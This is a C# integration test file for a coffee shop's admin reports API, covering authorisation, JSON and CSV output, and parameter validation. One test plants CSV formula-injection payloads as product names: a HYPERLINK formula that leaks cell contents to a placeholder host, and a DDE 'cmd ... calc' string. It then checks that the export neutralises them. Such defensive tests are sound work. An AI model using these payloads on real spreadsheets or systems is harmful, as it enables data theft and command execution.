using System.Net;
using System.Text.Json;
using MestresCafe.Api.Tests.Infrastructure;

namespace MestresCafe.Api.Tests.Reports;

/// <summary>Back office reports over HTTP: permissions, JSON and CSV, and bad ranges.</summary>
public sealed class ReportsApiTests(ApiTestHost host) : IClassFixture<ApiTestHost>, IAsyncLifetime
{
    public async Task InitializeAsync()
    {
        // One paid order at 15:00 UTC on 2026-03-01 (noon in São Paulo), on a demo product.
        await host.Database.ExecuteAsync("""
            insert into users (email, first_name) select 'relatorio@example.com.br', 'Relatório'
            where not exists (select 1 from users where email = 'relatorio@example.com.br');
            insert into orders (order_number, user_id, status, subtotal, total_amount, created_at, paid_at, payment_method_id)
            select 'RPT-API-1', u.id, 'paid', 123.45, 123.45, '2026-03-01 15:00+00', '2026-03-01 15:05+00', pm.id
            from users u, payment_methods pm
            where u.email = 'relatorio@example.com.br' and pm.name = 'Pix'
              and not exists (select 1 from orders where order_number = 'RPT-API-1');
            """);
    }

    public Task DisposeAsync() => Task.CompletedTask;

    [Fact]
    public async Task Anonymous_callers_get_401()
    {
        using var client = host.CreateClient();

        using var response = await client.GetAsync("/api/admin/reports/sales");

        Assert.Equal(HttpStatusCode.Unauthorized, response.StatusCode);
    }

    [Fact]
    public async Task Customers_get_403()
    {
        using var customer = await host.CreateSignedInClientAsync("customer");

        using var response = await customer.Http.GetAsync("/api/admin/reports/sales");

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
    }

    [Fact]
    public async Task Admins_get_the_report_as_json()
    {
        using var admin = await host.CreateSignedInClientAsync("admin");

        using var response = await admin.Http.GetAsync("/api/admin/reports/sales?from=2026-03-01&to=2026-03-03");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        using var json = JsonDocument.Parse(await response.Content.ReadAsStringAsync());
        var rows = json.RootElement.GetProperty("rows").EnumerateArray().ToList();
        Assert.Equal(["2026-03-01", "2026-03-02"], rows.Select(r => r.GetProperty("period").GetString()));
        Assert.Equal(1, rows[0].GetProperty("orders").GetInt64());
        Assert.Equal(123.45m, rows[0].GetProperty("net_revenue").GetDecimal());
        Assert.Equal("America/Sao_Paulo", json.RootElement.GetProperty("timeZone").GetString());
    }

    [Fact]
    public async Task Managers_read_reports_too()
    {
        using var manager = await host.CreateSignedInClientAsync("manager");

        using var response = await manager.Http.GetAsync("/api/admin/reports");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Contains("\"top-products\"", await response.Content.ReadAsStringAsync());
    }

    [Fact]
    public async Task Csv_export_has_a_header_and_one_line_per_row()
    {
        using var admin = await host.CreateSignedInClientAsync("admin");

        using var response = await admin.Http.GetAsync("/api/admin/reports/sales-by-payment-method?from=2026-03-01&to=2026-03-02&format=csv");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal("payment_method,orders,net_revenue,revenue_share_pct\r\nPix,1,123.45,100.00\r\n", await response.Content.ReadAsStringAsync());
    }

    [Fact]
    public async Task Csv_export_neutralises_product_names_that_are_formulas()
    {
        const string name = "=HYPERLINK(\"http://x.example/?\"&A1,\"clique\")";
        await host.Database.ExecuteAsync("""
            insert into products (name, slug, sku, price, cost_price)
            select '=HYPERLINK("http://x.example/?"&A1,"clique")', 'csv-formula', 'CSV-FORMULA', 10, 5
            where not exists (select 1 from products where sku = 'CSV-FORMULA');
            insert into products (name, slug, sku, price, cost_price)
            select '-2+3+cmd|'' /C calc''!A0', 'csv-minus', 'CSV-MINUS', 5, 2
            where not exists (select 1 from products where sku = 'CSV-MINUS');
            insert into orders (order_number, user_id, status, subtotal, total_amount, created_at, paid_at)
            select 'RPT-API-CSV', u.id, 'paid', 15, 15, '2026-05-01 15:00+00', '2026-05-01 15:05+00'
            from users u where u.email = 'relatorio@example.com.br'
              and not exists (select 1 from orders where order_number = 'RPT-API-CSV');
            insert into order_items (order_id, product_id, quantity, unit_price, total_price)
            select o.id, p.id, 1, p.price, p.price from orders o, products p
            where o.order_number = 'RPT-API-CSV' and p.sku in ('CSV-FORMULA', 'CSV-MINUS')
              and not exists (select 1 from order_items where order_id = o.id);
            """);
        using var admin = await host.CreateSignedInClientAsync("admin");

        using var response = await admin.Http.GetAsync("/api/admin/reports/top-products?from=2026-05-01&to=2026-05-02&tz=Etc/UTC&format=csv");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var csv = await response.Content.ReadAsStringAsync();
        Assert.Contains(",CSV-FORMULA,\"'" + name.Replace("\"", "\"\"", StringComparison.Ordinal) + "\",", csv);
        Assert.Contains(",CSV-MINUS,'-2+3+cmd|' /C calc'!A0,", csv);
        Assert.DoesNotContain(",\"=", csv);
    }

    [Theory]
    [InlineData("from=2026-03-02&to=2026-03-01", "to")]
    [InlineData("from=2020-01-01&to=2026-01-01", "to")]
    [InlineData("from=2026-03-01&to=2026-03-02&tz=Mars/Olympus", "tz")]
    [InlineData("from=2026-03-01&to=2026-03-02&groupBy=hour", "groupBy")]
    [InlineData("from=2026-03-01&to=2026-03-02&limit=0", "limit")]
    public async Task Bad_parameters_get_400_naming_the_parameter(string query, string parameter)
    {
        using var admin = await host.CreateSignedInClientAsync("admin");

        using var response = await admin.Http.GetAsync("/api/admin/reports/sales?" + query);

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        using var json = JsonDocument.Parse(await response.Content.ReadAsStringAsync());
        Assert.True(json.RootElement.GetProperty("errors").TryGetProperty(parameter, out _));
    }

    [Fact]
    public async Task An_unknown_report_is_404()
    {
        using var admin = await host.CreateSignedInClientAsync("admin");

        using var response = await admin.Http.GetAsync("/api/admin/reports/nope");

        Assert.Equal(HttpStatusCode.NotFound, response.StatusCode);
    }
}
